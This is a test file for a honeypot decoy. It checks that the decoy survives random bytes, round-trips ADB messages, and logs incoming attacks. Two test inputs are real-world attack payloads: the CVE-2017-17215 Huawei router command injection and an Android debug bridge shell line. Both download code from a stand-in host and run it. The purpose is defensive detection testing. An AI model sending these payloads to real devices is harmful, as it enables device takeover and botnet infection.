import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { connect } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import type { DecoyEvent } from '../../model/decoy-event.ts';
import { openDecoy, type RunningDecoy } from '../open-decoy.ts';
import { readAdb, writeAdb } from './adb.ts';
import { generic } from './generic.ts';

/** 5,481 to 56,469. */
const PORT_BASE = 3_600;
let folder: string;
let decoy: RunningDecoy;

before(async () => {
  folder = mkdtempSync(join(tmpdir(), 'yamori-generic-'));
  decoy = await openDecoy({
    persona: generic,
    seed: 'a-seed-for-tests-0001',
    name: 'any',
    address: '127.0.0.1',
    portBase: PORT_BASE,
    also: [{ transport: 'tcp', port: 9_200 }],
    events: join(folder, 'events'),
    folder,
    mostEventBytes: 1e8,
    user: null,
    clock: Date.now,
    count: () => {},
    onTrouble: (error) => assert.fail(String(error)),
  });
});
after(async () => {
  await decoy.close();
  rmSync(folder, { recursive: true });
});

const events = (): readonly DecoyEvent[] =>
  readFileSync(join(folder, 'events'), 'utf8')
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => JSON.parse(line));

/** What comes back until the other side ends, or says nothing for a while. */
async function say(port: number, ...pieces: (string | Buffer)[]): Promise<string> {
  const socket = connect(PORT_BASE + port, '127.0.0.1');
  let heard = '';
  socket.on('data', (data) => {
    heard += data.toString('latin1');
  });
  socket.on('error', () => {});
  const closed = new Promise((resolve) => socket.once('close', resolve));
  await once(socket, 'connect');
  for (const piece of pieces) {
    socket.write(piece);
    await new Promise((resolve) => setTimeout(resolve, 30));
  }
  socket.end();
  await closed;
  return heard;
}

test('exploits over HTTP are named, kept, and answered so that they go on', async () => {
  const soap =
    '<?xml version="1.0"?><s:Envelope><s:Body><u:Upgrade><NewStatusURL>$(/bin/busybox wget -g 192.0.2.9 -l /tmp/b -r /mips)</NewStatusURL></u:Upgrade></s:Body></s:Envelope>';
  const answer = await say(
    37_215,
    'POST /ctrlt/DeviceUpgrade_1 HT',
    `TP/1.1\r\nHost: x\r\nContent-Length: ${soap.length}\r\n\r\n${soap}`,
  );
  assert.match(answer, /^HTTP\/1\.[01] 200/);
  const named = events().find(({ eventid }) => eventid === 'yamori.exploit');
  assert.match(String(named?.name), /huawei/i);
  assert.match(String(named?.cve), /CVE-2017-17215/);
});

test('a debug bridge takes the line, keeps where it would fetch from, and fetches nothing', async () => {
  const heard = await say(
    5_555,
    writeAdb('CNXN', 0x0100_0000, 4_096, 'host::\0'),
    writeAdb('OPEN', 7, 0, 'shell:cd /data/local/tmp; wget http://192.0.2.9/adb.sh; sh adb.sh\0'),
  );
  assert.match(heard, /^CNXN/);
  assert.match(heard, /OKAY.*CLSE/s);
  const line = events().find(({ eventid }) => eventid === 'cowrie.command.input');
  assert.match(String(line?.input), /wget http/);
  const fetched = events().find(({ eventid }) => eventid === 'cowrie.session.file_download');
  assert.equal(fetched?.url, 'http://192.0.2.9/adb.sh');
});

test('whatever is no HTTP is kept as it came, on any port that was named', async () => {
  await say(9_200, Buffer.from('16030100a5010000a1', 'hex'));
  const kept = events().find(
    ({ eventid, dst_port }) => eventid === 'yamori.payload' && dst_port === PORT_BASE + 9_200,
  );
  assert.equal(kept?.data, '16030100a5010000a1');
  assert.equal(kept?.name, 'tcp-9200');
});

test('a message of the bridge reads back as it was written; any bytes are a message, more to come, or none', () => {
  fc.assert(
    fc.property(
      fc.constantFrom('CNXN', 'OPEN', 'WRTE'),
      fc.nat(0xffff_ffff),
      fc.nat(0xffff_ffff),
      fc.string(),
      (command, first, second, text) => {
        const bytes = writeAdb(command, first, second, text);
        const read = readAdb(bytes);
        assert.ok(read !== null && read !== 'wrong');
        assert.deepEqual(
          [
            read.message.command,
            read.message.first,
            read.message.second,
            Buffer.from(read.message.data).toString(),
            read.size,
          ],
          [command, first, second, text, bytes.length],
        );
        assert.equal(readAdb(bytes.subarray(0, bytes.length - 1)), null);
      },
    ),
  );
  fc.assert(
    fc.property(fc.uint8Array({ maxLength: 100 }), (bytes) => {
      const read = readAdb(bytes);
      if (read !== null && read !== 'wrong') assert.ok(read.size <= bytes.length);
    }),
  );
});

test('random bytes on each port are survived, and every visit ends', async () => {
  const sent = fc.sample(fc.uint8Array({ minLength: 1, maxLength: 400 }), 60);
  const { ports } = generic;
  await Promise.all(sent.map((bytes, index) => say(ports[index % ports.length].port, Buffer.from(bytes))));
  const begun = events().filter(({ eventid }) => eventid === 'cowrie.session.connect').length;
  const closed = events().filter(({ eventid }) => eventid === 'cowrie.session.closed').length;
  assert.equal(begun, closed);
});
